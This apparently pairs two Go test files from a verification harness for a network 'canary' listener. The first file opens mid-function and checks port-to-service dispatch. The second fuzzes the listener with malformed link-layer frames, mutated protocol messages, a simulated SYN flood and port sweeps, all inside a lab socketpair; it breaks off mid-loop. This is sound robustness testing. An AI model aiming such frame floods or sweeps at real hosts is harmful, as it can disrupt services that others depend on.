		sc := mkScenario(b.Seed, p.Offset+k, p.Socket)
		o.Begin(k)
		if p.Socket {
			// real ports: another run of this check on the same machine uses the same numbers. Move the whole
			// scenario (entries and probes alike; only equality of port numbers matters to it) to a block of
			// ports that is free right now
			shift := freeShift(sc)
			if shift < 0 {
				o.Emit(core.Rec{T: "starterr", S: "no free block of loopback ports for the scenario"})
				o.End(k)
				continue
			}
			for i := range sc.Ports {
				sc.Ports[i].Port += shift
			}
			for i := range sc.Probes {
				sc.Probes[i].Port += shift
			}
		}
		srv, err := lab.StartWith(config(sc), !p.Socket)
		if err != nil {
			o.Emit(core.Rec{T: "starterr", S: err.Error()})
			o.End(k)
			continue
		}
		if p.Socket {
			time.Sleep(150 * time.Millisecond) // listeners are opened synchronously in Run before Accept; give Run time to get there
		}
		if p.Conc {
			// all probes at once; calls are attributed to a probe by its client address
			lab.Stubs.Reset()
			obs := make([]probeObs, len(sc.Probes))
			var wg sync.WaitGroup
			for i, pr := range sc.Probes {
				wg.Add(1)
				go func(i int, pr probe) {
					defer wg.Done()
					obs[i] = runMemProbe(srv, pr, k, i)
				}(i, pr)
			}
			wg.Wait()
			time.Sleep(10 * time.Millisecond)
			calls := lab.Stubs.Snapshot()
			rip := fmt.Sprintf("203.0.%d.%d", (k/200)%200+1, k%200+1)
			for i := range sc.Probes {
				obs[i].I = i
				want := fmt.Sprintf("%s:%d", rip, 3000+i)
				for _, c := range calls {
					if c.Remote == want {
						obs[i].Calls = append(obs[i].Calls, callObs{Stub: c.Stub, Hex: hex.EncodeToString(c.Data), Done: c.Done})
					}
				}
				o.EmitX("probe", obs[i])
			}
			srv.Stop()
			o.End(k)
			continue
		}
		for i, pr := range sc.Probes {
			lab.Stubs.Reset()
			var ob probeObs
			if p.Socket {
				ob = runSocketProbe(pr)
			} else {
				ob = runMemProbe(srv, pr, k, i)
			}
			ob.I = i
			for _, c := range lab.Stubs.Snapshot() {
				ob.Calls = append(ob.Calls, callObs{Stub: c.Stub, Hex: hex.EncodeToString(c.Data), Done: c.Done})
			}
			o.EmitX("probe", ob)
		}
		if p.Socket {
			// the scenario's datagrams once more, all in flight at the same time (three rounds): each from a
			// socket of its own, so that the service call can be attributed by the client address
			var udp []int
			for i, pr := range sc.Probes {
				if pr.Net == "udp" {
					udp = append(udp, i)
				}
			}
			for round := 0; round < 3 && len(udp) > 1; round++ {
				lab.Stubs.Reset()
				local := map[int]string{}
				var conns []*net.UDPConn
				for _, i := range udp {
					pr := sc.Probes[i]
					c, err := net.DialUDP("udp", &net.UDPAddr{IP: net.ParseIP("127.0.0.9")}, &net.UDPAddr{IP: net.ParseIP(pr.IP), Port: pr.Port})
					if err != nil {
						continue
					}
					conns = append(conns, c)
					local[i] = c.LocalAddr().String()
				}
				ci := 0
				for _, i := range udp {
					if local[i] == "" {
						continue
					}
					conns[ci].Write(sc.Probes[i].Payload)
					ci++
				}
				waitStubsQuiet(3*time.Second, 80*time.Millisecond)
				calls := lab.Stubs.Snapshot()
				for _, c := range conns {
					c.Close()
				}
				for _, i := range udp {
					if local[i] == "" {
						continue
					}
					ob := probeObs{I: i, Burst: true}
					for _, c := range calls {
						if c.Remote == local[i] {
							ob.Calls = append(ob.Calls, callObs{Stub: c.Stub, Hex: hex.EncodeToString(c.Data), Done: c.Done})
						}
					}
					o.EmitX("probe", ob)
				}
			}
		}
		srv.Stop()
		o.End(k)
	}
}

// waitStubsQuiet waits until every started stub has finished and no new one has started for the quiet period.
func waitStubsQuiet(max, quiet time.Duration) {
	deadline := time.Now().Add(max)
	last, since := -1, time.Now()
	for time.Now().Before(deadline) {
		cs := lab.Stubs.Snapshot()
		all := true
		for _, c := range cs {
			if !c.Done {
				all = false
			}
		}
		if len(cs) != last || !all {
			last, since = len(cs), time.Now()
		} else if time.Since(since) >= quiet {
			return
		}
		time.Sleep(500 * time.Microsecond)
	}
}

func waitStubsDone(max time.Duration) {
	deadline := time.Now().Add(max)
	for time.Now().Before(deadline) {
		all := true
		cs := lab.Stubs.Snapshot()
		for _, c := range cs {
			if !c.Done {
				all = false
			}
		}
		if len(cs) > 0 && all {
			return
		}
		time.Sleep(300 * time.Microsecond)
	}
}

func runMemProbe(srv *lab.Server, pr probe, k, i int) probeObs {
	var ob probeObs
	rip := fmt.Sprintf("203.0.%d.%d", (k/200)%200+1, k%200+1)
	if pr.Net == "udp" {
		srv.L.SendUDP(lab.UDPAddr(pr.IP, pr.Port), lab.UDPAddr(rip, 3000+i), pr.Payload)
		waitStubsDone(40 * time.Millisecond)
		time.Sleep(2 * time.Millisecond)
		return ob
	}
	cc := srv.L.DialTCP(lab.TCPAddr(pr.IP, pr.Port), lab.TCPAddr(rip, 3000+i))
	cl := lab.NewClient(cc)
	if pr.Silent {
		me := fmt.Sprintf("%s:%d", rip, 3000+i)
		deadline := time.Now().Add(150 * time.Millisecond)
		for !ob.Early && time.Now().Before(deadline) {
			for _, c := range lab.Stubs.Snapshot() {
				if c.Remote == me {
					ob.Early = true
				}
			}
			if !ob.Early {
				time.Sleep(time.Millisecond)
			}
		}
	}
	if err := cl.Send(pr.Payload[:pr.First], 2*time.Second); err != nil {
		ob.Err = err.Error()
	} else if rest := pr.Payload[pr.First:]; len(rest) > 0 {
		cut := len(rest) / 2
		cl.Send(rest[:cut], 2*time.Second)
		cl.Send(rest[cut:], 2*time.Second)
	}
	cl.WaitIdle(50 * time.Millisecond)
	cl.Close()
	deadline := time.Now().Add(2 * time.Second)
	for !cc.Srv.Closed() && time.Now().Before(deadline) {
		time.Sleep(200 * time.Microsecond)
	}
	ob.Closed = cc.Srv.Closed()
	waitStubsDone(20 * time.Millisecond)
	return ob
}

func runSocketProbe(pr probe) probeObs {
	var ob probeObs
	laddr := &net.TCPAddr{IP: net.ParseIP("127.0.0.9")}
	if pr.Net == "udp" {
		c, err := net.DialUDP("udp", nil, &net.UDPAddr{IP: net.ParseIP(pr.IP), Port: pr.Port})
		if err != nil {
			ob.Err = err.Error()
			return ob
		}
		c.Write(pr.Payload)
		waitStubsDone(150 * time.Millisecond)
		c.Close()
		return ob
	}
	d := net.Dialer{LocalAddr: laddr, Timeout: time.Second}
	c, err := d.Dial("tcp", fmt.Sprintf("%s:%d", pr.IP, pr.Port))
	if err != nil {
		ob.Err = "dial: " + err.Error()
		return ob
	}
	tc := c.(*net.TCPConn)
	tc.SetNoDelay(true)
	if pr.First > 0 {
		tc.Write(pr.Payload[:pr.First])
		time.Sleep(15 * time.Millisecond) // let the first segment be delivered on its own (the oracle admits coalescing anyway)
	}
	if rest := pr.Payload[pr.First:]; len(rest) > 0 {
		tc.Write(rest)
	}
	tc.CloseWrite()
	// wait for the server side to finish: it closes after the stub saw EOF
	tc.SetReadDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 16)
	for {
		if _, err := tc.Read(buf); err != nil {
			break
		}
	}
	tc.Close()
	ob.Closed = true
	waitStubsDone(50 * time.Millisecond)
	return ob
}

// ---- judge ---------------------------------------------------------------------

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var p params
	b.P(&p)
	var out []core.Result
	for _, r := range recs {
		switch r.T {
		case "starterr":
			out = append(out, core.Result{K: r.K, Verdict: core.Inconclusive, What: "server did not start: " + r.S})
		case "probe":
			var ob probeObs
			if r.XInto(&ob) != nil {
				continue
			}
			sc := mkScenario(b.Seed, p.Offset+r.K, p.Socket)
			pr := sc.Probes[ob.I]
			res := core.Result{K: r.K, Verdict: core.Held}
			mode := "mem"
			if p.Socket {
				mode = "socket"
			}
			if p.Conc {
				mode = "concurrent"
			}
			if ob.Burst {
				mode = "socket-burst"
			}
			if strings.HasPrefix(ob.Err, "dial:") {
				// nothing listening there: admissible only if no entry is effective for it
				if !admissible(sc, pr, [][]byte{pr.Payload})[""] {
					res.Verdict = core.Violated
					res.Sig = "C08|" + mode + "|not-listening-on-configured-port"
					res.What = "connect refused on a port entry that names a defined service"
					res.Witness = map[string]interface{}{"scenario": sc, "probe": ob.I}
				}
				out = append(out, res)
				continue
			}
			var firsts [][]byte
			if p.Socket && pr.Net == "tcp" {
				for n := pr.First; n <= len(pr.Payload); n++ {
					firsts = append(firsts, pr.Payload[:n])
				}
			} else {
				firsts = [][]byte{pr.Payload[:pr.First]}
			}
			adm := admissible(sc, pr, firsts)
			zero := len(pr.Payload) == 0
			rule, what := "", ""
			switch {
			case len(ob.Calls) > 1:
				rule, what = "more-than-one-service", fmt.Sprintf("%d services were invoked for one connection", len(ob.Calls))
			case len(ob.Calls) == 1:
				c := ob.Calls[0]
				if !adm[c.Stub] && !(zero && eligibleAtAll(sc, pr, c.Stub)) {
					rule, what = "wrong-service", fmt.Sprintf("service %s was invoked; the statement admits %v", c.Stub, keys(adm))
				} else if got, _ := hex.DecodeString(c.Hex); !bytes.Equal(got, pr.Payload) {
					rule = "stream-not-intact|" + lossClass(got, pr.Payload, pr.First)
					what = fmt.Sprintf("chosen service %s read %d bytes, client sent %d (first segment %d bytes)", c.Stub, len(got), len(pr.Payload), pr.First)
				}
			default:
				if !adm[""] && !zero {
					rule, what = "no-service-invoked", fmt.Sprintf("no service was invoked; the statement requires one of %v", keys(adm))
				}
			}
			if rule == "" && pr.Silent && !ob.Early {
				// a client that has not sent anything yet: when the first service of the matching entry has no
				// payload detector, nothing needs to be inspected and that service is the connection's
				for _, e := range effective(sc.Ports) {
					if e.Net == pr.Net && e.Port == pr.Port && (e.IP == "" || e.IP == pr.IP) {
						if d := stubByName(e.Services[0]); d != nil && d.Prefix == "-" && len(e.Services) > 1 {
							rule, what = "silent-client-not-handed-to-detectorless-first-service", fmt.Sprintf("the entry's first service %s has no payload detector, but a client that had not sent anything yet was not handed to it within 150 ms (services %v)", e.Services[0], e.Services)
						}
						break
					}
				}
			}
			if rule != "" {
				res.Verdict = core.Violated
				res.Sig = "C08|" + mode + "|" + rule
				res.What = what
				res.Witness = map[string]interface{}{"ports": sc.Ports, "effective": effective(sc.Ports), "probe": pr, "payload_hex": hex.EncodeToString(pr.Payload), "observed": ob, "config": config(sc)}
			}
			res.Key = fmt.Sprintf("%s|%d|%d", mode, p.Offset+r.K, ob.I)
			chosen := "(none)"
			if len(ob.Calls) == 1 {
				chosen = ob.Calls[0].Stub
			}
			res.Sample = map[string]interface{}{"mode": mode, "ports": sc.Ports, "probe": map[string]interface{}{"net": pr.Net, "ip": pr.IP, "port": pr.Port, "payload_len": len(pr.Payload), "first_segment": pr.First, "payload_head": string(pr.Payload[:mini(12, len(pr.Payload))])}, "admissible": keys(adm), "invoked": chosen}
			out = append(out, res)
		}
	}
	for _, e := range exits {
		if e.Died() {
			out = append(out, core.Result{K: e.LastBegun, Verdict: core.Inconclusive, What: fmt.Sprintf("child died (%s %s) - the crash class belongs to C01", e.Class, e.Frame)})
		}
	}
	return out
}

// eligibleAtAll: for zero-byte clients, a service is "not ineligible" if it is listed for the matching entry.
func eligibleAtAll(sc scenario, p probe, stub string) bool {
	for _, e := range effective(sc.Ports) {
		if e.Net == p.Net && e.Port == p.Port && (e.IP == "" || e.IP == p.IP) {
			for _, s := range e.Services {
				if s == stub {
					return true
				}
			}
			return false
		}
	}
	return false
}

func lossClass(got, want []byte, first int) string {
	switch {
	case bytes.Equal(got, want[mini(first, len(want)):]):
		return "peeked-first-segment-lost"
	case len(got) < len(want) && bytes.HasSuffix(want, got):
		return "prefix-lost"
	case len(got) < len(want) && bytes.HasPrefix(want, got):
		return "tail-lost"
	default:
		return "bytes-differ"
	}
}

func keys(m map[string]bool) []string {
	var o []string
	for k := range m {
		if k == "" {
			k = "(none)"
		}
		o = append(o, k)
	}
	return o
}

func mini(a, b int) int {
	if a < b {
		return a
	}
	return b
}
