// Package c02: no frame on the wire can terminate the raw (canary) listener.
// Frames are written into the socketpair of the verif constructor and flow
// through the real Start() receive loop; monitors: child liveness/stderr and a
// well-formed UDP probe whose event must appear after every batch of frames.
package c02

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"time"
	"verif/htlab/internal/gen"

	"verif/htlab/internal/core"
	"verif/htlab/internal/lab"
	fr "verif/htlab/internal/ref/frames"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C02" }
func (prop) Level() string { return "exploration" }
func (prop) Rule() string {
	return "scenario = a batch of <=64 link-layer frames (field-boundary enumeration of Ethernet/IPv4/TCP/UDP/ICMP/ARP headers, all 3-byte TCP option layouts over a boundary alphabet, longer option layouts, seeded random frames) or one flood history (70k half-open attempts, mixed with RST/FIN/ACK for unknown tuples) under one ARP/route configuration, followed by a well-formed UDP probe. Non-trivial = the probe's udp event was observed after the batch (the real receive loop consumed every frame); distinct by sha256 of the batch. ARP/route table shapes: peers resolved; default route through a resolved gateway; nothing; default route through an unresolved gateway; on-link route (gateway 0.0.0.0); mixed (peer unresolved behind a narrower route through an unresolved gateway). The enumerated frames are also run with the listener option do_arp=true applied through the configuration decoder. Port sweeps: one peer probes 30000 tcp ports, another 1500 udp ports, a third 300, then all stay quiet for 6.5 s (the scan detector reports a peer after five quiet seconds) and the listener must still answer; a second round of 1100 ports follows. The enumerated frames include the tagging and encapsulating ethertypes (802.1Q, QinQ, MPLS, PPPoE, LLDP) with payloads of 0..5 bytes."
}
func (prop) Assumptions() []string {
	return []string{
		"frames reach the listener through an AF_UNIX datagram socketpair on an unprivileged epoll instance (verif constructor), not AF_PACKET; kernel delivery behaviour is not exercised",
		"the interface is the real `lo` so the unmodified isMe() accepts 127.0.0.1",
		"frames are 14..1600 bytes (the kernel never delivers less than a link-layer header)",
	}
}

var (
	me       = net.IPv4(127, 0, 0, 1)
	peerIP   = net.IPv4(198, 18, 0, 1)
	localMAC = net.HardwareAddr{0, 0, 0, 0, 0, 0}
)

type params struct {
	Mode   string `json:"mode"` // frames | flood | floodmix
	Tables string `json:"tables"`
	Offset int    `json:"offset"`
	Config string `json:"config,omitempty"` // TOML fragment with listener options
}

const perScn = 64

func (prop) Plan(tier string, seed int64) []core.Batch {
	var plan []core.Batch
	total := frameCount(tier)
	nscn := (total + perScn - 1) / perScn
	chunks := 12
	per := (nscn + chunks - 1) / chunks
	for c := 0; c < chunks; c++ {
		n := per
		if c*per+n > nscn {
			n = nscn - c*per
		}
		if n <= 0 {
			continue
		}
		tables := []string{"direct", "gateway", "direct"}[c%3]
		p, _ := json.Marshal(params{Mode: "frames", Tables: tables, Offset: c * per})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("frames/%s/%d", tables, c), N: n, Params: p, Timeout: 900})
	}
	// frames under the configuration without ARP/route entries: a small sample
	p, _ := json.Marshal(params{Mode: "frames", Tables: "none", Offset: 0})
	plan = append(plan, core.Batch{Name: "frames/none", N: 40, Params: p, Timeout: 600})
	// ... and under the partially resolved tables a start-up can read from the kernel
	for i, t := range []string{"route-only", "onlink", "mixed"} {
		p, _ := json.Marshal(params{Mode: "frames", Tables: t, Offset: 40 * (i + 1)})
		plan = append(plan, core.Batch{Name: "frames/" + t, N: 40, Params: p, Timeout: 600})
	}
	// the enumerated frames once more with every switch of the [listener] table an operator can set turned on
	// (do_arp), applied through the configuration decoder
	ne := (len(enumerated()) + perScn - 1) / perScn
	pc, _ := json.Marshal(params{Mode: "frames", Tables: "direct", Offset: 0, Config: "do_arp=true\n"})
	plan = append(plan, core.Batch{Name: "frames/direct+do_arp", N: ne, Params: pc, Timeout: 900})
	for _, t := range []string{"direct", "gateway", "none", "route-only", "mixed"} {
		p, _ := json.Marshal(params{Mode: "flood", Tables: t})
		plan = append(plan, core.Batch{Name: "flood/" + t, N: 1, Params: p, Timeout: 900})
	}
	// port sweeps: what the listener keeps per peer grows with the number of distinct ports probed, and is
	// reported once the peers have been quiet for the detector's period
	for _, t := range []string{"direct", "gateway"} {
		p, _ := json.Marshal(params{Mode: "sweep", Tables: t})
		plan = append(plan, core.Batch{Name: "sweep/" + t, N: 1, Params: p, Timeout: 900})
	}
	p, _ = json.Marshal(params{Mode: "floodmix", Tables: "gateway"})
	plan = append(plan, core.Batch{Name: "floodmix/gateway", N: 1, Params: p, Timeout: 900})
	p, _ = json.Marshal(params{Mode: "floodsame", Tables: "gateway"})
	plan = append(plan, core.Batch{Name: "floodsame/gateway", N: 1, Params: p, Timeout: 900})
	return plan
}

func frameCount(tier string) int {
	if tier == "thorough" {
		return len(enumerated()) + 900000
	}
	return len(enumerated()) + 20000
}

// ---- frame generation ------------------------------------------------------

var enumCache [][]byte

func eth(payload []byte, typ uint16) []byte { return fr.Eth(localMAC, lab.PeerMAC, typ, payload) }

func ipFrame(h fr.IPv4, payload []byte) []byte {
	if h.Src == nil {
		h.Src = peerIP
	}
	if h.Dst == nil {
		h.Dst = me
	}
	return eth(h.Marshal(payload), 0x0800)
}

// enumerated is the fixed field-boundary list (independent of the seed).
func enumerated() [][]byte {
	if enumCache != nil {
		return enumCache
	}
	var out [][]byte
	add := func(f []byte) {
		if len(f) < 14 {
			f = append(f, make([]byte, 14-len(f))...)
		}
		if len(f) > 1600 {
			f = f[:1600]
		}
		out = append(out, f)
	}
	// Ethernet types with short and long payloads
	// (incl. the tagging and encapsulating types a trunk port or a tunnel delivers: 802.1Q, QinQ, MPLS, PPPoE, LLDP -
	// a decoder that looks behind the tag finds 0..5 bytes there in the runt cases)
	for _, typ := range []uint16{0x0800, 0x0806, 0x86dd, 0, 0xffff, 0x8100, 0x88a8, 0x9100, 0x8847, 0x8864, 0x88cc} {
		for _, n := range []int{0, 1, 2, 3, 4, 5, 7, 19, 20, 21, 27, 28, 40, 60, 1500} {
			add(eth(make([]byte, n), typ))
			b := make([]byte, n)
			for i := range b {
				b[i] = 0xff
			}
			add(eth(b, typ))
		}
	}
	// IPv4: IHL x total length x protocol x L4 length
	for ihl := 0; ihl <= 15; ihl++ {
		for _, l4 := range []int{0, 1, 7, 8, 19, 20, 21, 24, 60} {
			for _, proto := range []uint8{1, 2, 6, 17, 0, 255} {
				opts := 0
				if ihl > 5 {
					opts = (ihl - 5) * 4
				}
				actual := 20 + opts + l4
				for _, tl := range []int{0, 1, 19, 20, 21, ihl*4 - 1, ihl * 4, ihl*4 + 1, actual - 1, actual, actual + 1, 65535} {
					if tl < 0 {
						continue
					}
					l4b := make([]byte, l4)
					if proto == 6 && l4 >= 20 {
						l4b[12] = 5 << 4
						l4b[13] = fr.SYN
					}
					if proto == 17 && l4 >= 8 {
						l4b[3] = 9
						l4b[5] = byte(l4)
					}
					add(ipFrame(fr.IPv4{IHL: ihl, TotalLen: tl, Proto: proto, Options: make([]byte, opts)}, l4b))
				}
			}
		}
	}
	// TCP: data offset x segment length around offset*4, SYN and ACK
	for off := 0; off <= 15; off++ {
		for _, d := range []int{-21, -4, -1, 0, 1, 4, 40} {
			seglen := off*4 + d
			if seglen < 0 {
				continue
			}
			for _, fl := range []uint8{fr.SYN, fr.ACK, fr.SYN | fr.ACK, fr.FIN | fr.ACK, fr.RST, 0, 0x3f} {
				seg := make([]byte, seglen)
				if seglen >= 14 {
					seg[0], seg[1] = 0x9c, byte(0x40+off)
					seg[2], seg[3] = 0x1f, 0x90
					seg[12] = byte(off) << 4
					seg[13] = fl
				}
				add(ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 6}, seg))
			}
		}
	}
	// every TCP segment length 0..24 (shorter than a header and just above)
	for n := 0; n <= 24; n++ {
		seg := make([]byte, n)
		for i := range seg {
			seg[i] = byte(0x50 + i)
		}
		add(ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 6}, seg))
	}
	// all 3-byte option layouts over the boundary alphabet, as the tail of the options
	al := []byte{0, 1, 2, 3, 4, 8, 0xfe, 0xff}
	sport := uint16(20000)
	for _, a := range al {
		for _, b := range al {
			for _, c := range al {
				for _, lead := range [][]byte{{1}, {}} { // options = lead + 3 bytes (4 bytes = one word) or 3 bytes + pad handled by Off
					opts := append(append([]byte{}, lead...), a, b, c)
					off := 5 + (len(opts)+3)/4
					raw := append(append([]byte{}, opts...), make([]byte, (off-5)*4-len(opts))...)
					if len(lead) == 0 {
						// put the 3 bytes at the very end of the option area
						raw = append(make([]byte, (off-5)*4-3), a, b, c)
					}
					sport++
					add(ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 6}, fr.TCP{Sport: sport, Dport: 8080, Seq: 1, Off: off, Flags: fr.SYN, Options: raw}.Marshal(peerIP, me, nil)))
				}
			}
		}
	}
	// UDP length field vs actual, decoded and undecoded ports
	for _, dport := range []uint16{9, 53, 123, 1900, 5060, 161, 162, 0, 65535} {
		for _, pl := range []int{0, 1, 12, 48, 300} {
			actual := 8 + pl
			for _, l := range []int{actual - 1, actual, actual + 1, 0, 7, 8, 65535} {
				if l < 0 {
					continue
				}
				add(ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 17}, fr.UDP(peerIP, me, 40000, dport, l, make([]byte, pl))))
			}
		}
	}
	// ICMP shorter than 8 and longer
	for n := 0; n <= 12; n++ {
		b := make([]byte, n)
		if n > 0 {
			b[0] = 8
		}
		add(ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 1}, b))
	}
	add(ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 1}, fr.ICMPEcho(1, 1, []byte("abcdefgh"))))
	// ARP with odd sizes
	for _, hs := range []uint8{0, 6, 20, 21, 255} {
		for _, ps := range []uint8{0, 4, 20, 21, 255} {
			for _, op := range []uint16{1, 2, 0, 0xffff} {
				a := fr.ARP(op, hs, ps, lab.PeerMAC, peerIP, localMAC, me)
				add(eth(a, 0x0806))
				add(eth(a[:8], 0x0806))
			}
		}
	}
	// destinations that are not ours, broadcast, other versions
	add(ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 6, Dst: net.IPv4(10, 1, 2, 3)}, fr.TCP{Sport: 1, Dport: 80, Flags: fr.SYN, Off: -1}.Marshal(peerIP, net.IPv4(10, 1, 2, 3), nil)))
	add(ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 17, Dst: net.IPv4(255, 255, 255, 255)}, fr.UDP(peerIP, net.IPv4(255, 255, 255, 255), 1, 9, -1, []byte("x"))))
	enumCache = out
	return out
}

// seeded returns the i-th seeded frame.
func seeded(seed int64, i int) []byte {
	r := core.NewRng(seed, "C02/frame", i)
	switch r.Intn(9) {
	case 0: // random frame
		return clamp(r.Bytes(r.Range(14, 1600)))
	case 1: // random bytes behind a valid Ethernet/IPv4 header
		return clamp(ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: uint8(r.PickI([]int{1, 6, 17, r.Intn(256)}))}, r.Bytes(r.Range(0, 200))))
	case 2: // SYN from a fresh tuple with random options
		opts := r.Bytes(r.Intn(41))
		return clamp(ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 6}, fr.TCP{Sport: uint16(1024 + r.Intn(60000)), Dport: uint16(r.PickI([]int{23, 80, 443, 445, 1433, 6379, 9200, 8080, 22, r.Intn(65536)})), Seq: uint32(r.U64()), Off: -1, Flags: fr.SYN, Options: opts}.Marshal(peerIP, me, nil)))
	case 3: // segment with random flags for (probably) unknown tuple, payload
		return clamp(ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 6}, fr.TCP{Sport: uint16(r.Intn(65536)), Dport: uint16(r.Intn(65536)), Seq: uint32(r.U64()), Ack: uint32(r.U64()), Off: -1, Flags: uint8(r.Intn(64))}.Marshal(peerIP, me, r.Bytes(r.Intn(100)))))
	case 4: // options: long layouts, kind>=2 as last byte, length 0/1, length beyond end
		n := r.Range(1, 40)
		o := make([]byte, n)
		for j := range o {
			o[j] = byte(r.PickI([]int{0, 1, 2, 3, 4, 8, 0xfe, 0xff, r.Intn(256)}))
		}
		off := 5 + (n+3)/4
		raw := append(make([]byte, (off-5)*4-n), o...)
		return clamp(ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 6}, fr.TCP{Sport: uint16(r.Intn(65536)), Dport: 8080, Seq: 7, Off: off, Flags: fr.SYN, Options: raw}.Marshal(peerIP, me, nil)))
	case 5: // UDP to decoders with protocol-looking or random payloads
		if r.Bool() {
			// a well-formed message of the decoded protocol, cut short or mutated: the decoders' own
			// length fields then point past the end of the datagram
			dport, msg := shapedUDP(r)
			switch r.Intn(3) {
			case 0:
				msg = msg[:r.Intn(len(msg)+1)]
			case 1:
				msg = gen.Mutate(r, msg)
			}
			return clamp(ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 17}, fr.UDP(peerIP, me, uint16(1024+r.Intn(60000)), dport, -1, msg)))
		}
		return clamp(ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 17}, fr.UDP(peerIP, me, uint16(r.Intn(65536)), uint16(r.PickI([]int{53, 123, 1900, 5060, 161, 162, 9, r.Intn(65536)})), -1, r.Bytes(r.Range(0, 300)))))
	case 6: // mutated valid IPv4 header
		f := ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 6}, fr.TCP{Sport: 5, Dport: 80, Off: -1, Flags: fr.SYN}.Marshal(peerIP, me, nil))
		for j := r.Range(1, 3); j > 0; j-- {
			f[14+r.Intn(len(f)-14)] = byte(r.PickI([]int{0, 0xff, 0x0f, 0xf0, r.Intn(256)}))
		}
		return clamp(f)
	case 7: // IP options present
		return clamp(ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: uint8(r.PickI([]int{1, 6, 17})), Options: r.Bytes(4 * r.Range(1, 10))}, r.Bytes(r.Range(0, 64))))
	default: // full handshake-ish sequence element: ACK/PSH/FIN for a tuple that a case-2 SYN may have created
		return clamp(ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 6}, fr.TCP{Sport: uint16(1024 + r.Intn(60000)), Dport: 8080, Seq: uint32(r.U64()), Ack: uint32(r.U64()), Off: -1, Flags: uint8(r.PickI([]int{fr.ACK, fr.ACK | fr.PSH, fr.FIN | fr.ACK, fr.RST}))}.Marshal(peerIP, me, r.Bytes(r.Intn(40)))))
	}
}

// shapedUDP returns a decoded port and a well-formed message for it.
func shapedUDP(r *core.Rng) (uint16, []byte) {
	switch r.Intn(5) {
	case 0:
		q := gen.DNSQuery(uint16(r.Intn(65536)), r.Alnum(r.Range(1, 12))+"."+r.Alnum(3), uint16(r.PickI([]int{1, 16, 28, 255})))
		if r.Bool() {
			q[5] = byte(r.PickI([]int{1, 2, 5, 255})) // announced question count
		}
		if r.Chance(1, 3) {
			q[7], q[9], q[11] = byte(r.Intn(4)), byte(r.Intn(4)), byte(r.Intn(4)) // answers announced, none present
		}
		return 53, q
	case 1:
		d := gen.NTPDialogue(r)
		return 123, d[r.Intn(len(d))]
	case 2:
		return 1900, []byte("M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n")
	case 3:
		return 5060, []byte("OPTIONS sip:100@10.0.0.1 SIP/2.0\r\nVia: SIP/2.0/UDP 10.0.0.9:5060;branch=z9hG4bK-" + r.Alnum(6) + "\r\nFrom: <sip:a@b>;tag=1\r\nTo: <sip:100@10.0.0.1>\r\nCall-ID: " + r.Alnum(8) + "\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n")
	default:
		d := gen.SNMPDialogue(r)
		return uint16(r.PickI([]int{161, 162})), d[r.Intn(len(d))]
	}
}

func clamp(f []byte) []byte {
	if len(f) < 14 {
		f = append(f, make([]byte, 14-len(f))...)
	}
	if len(f) > 1600 {
		f = f[:1600]
	}
	return f
}

func frameAt(seed int64, i int) []byte {
	e := enumerated()
	if i < len(e) {
		return e[i]
	}
	return seeded(seed, i-len(e))
}

func scenarioFrames(seed int64, tier string, scn int) [][]byte {
	total := frameCount(tier)
	var out [][]byte
	for i := scn * perScn; i < (scn+1)*perScn && i < total; i++ {
		out = append(out, frameAt(seed, i))
	}
	return out
}

func hashFrames(fs [][]byte) string {
	h := sha256.New()
	for _, f := range fs {
		h.Write([]byte{byte(len(f) >> 8), byte(len(f))})
		h.Write(f)
	}
	return hex.EncodeToString(h.Sum(nil))[:16]
}

// ---- child -----------------------------------------------------------------

type scnRec struct {
	Mode    string         `json:"mode"`
	Tables  string         `json:"tables"`
	Frames  int            `json:"frames"`
	Hash    string         `json:"hash"`
	Events  int            `json:"events"`
	ProbeOK bool           `json:"probe_ok"`
	States  int            `json:"states"`
	WallMs  int64          `json:"wall_ms"`
	Cats    map[string]int `json:"cats,omitempty"`
}

func probe(h *lab.CanaryHost, tag string) bool {
	pl := []byte("probe-" + tag)
	f := ipFrame(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 17, Src: net.IPv4(198, 18, 0, 2)}, fr.UDP(net.IPv4(198, 18, 0, 2), me, 40001, 9, -1, pl))
	n0 := lab.Events.Len()
	if err := h.Write(f); err != nil {
		return false
	}
	want := hex.EncodeToString(pl)
	return lab.Events.WaitFor(n0, func(evs []lab.Captured) bool {
		for _, e := range evs {
			if lab.Str(e.Rec, "category") == "udp" && lab.Str(e.Rec, "payload-hex") == want {
				return true
			}
		}
		return false
	}, 5*time.Second)
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	to := b.To
	if to == 0 {
		to = b.N
	}
	peers := []net.IP{peerIP, net.IPv4(198, 18, 0, 2)}
	lab.CanaryConfig = p.Config
	switch p.Mode {
	case "frames":
		h, err := lab.StartCanary("canary", p.Tables, peers, true)
		if err != nil {
			o.Emit(core.Rec{T: "starterr", S: err.Error()})
			return
		}
		for k := b.From; k < to; k++ {
			fs := scenarioFrames(b.Seed, b.Tier, p.Offset+k)
			o.Begin(k)
			t0 := time.Now()
			ev0 := lab.Events.Len()
			for i, f := range fs {
				if b.Verbose {
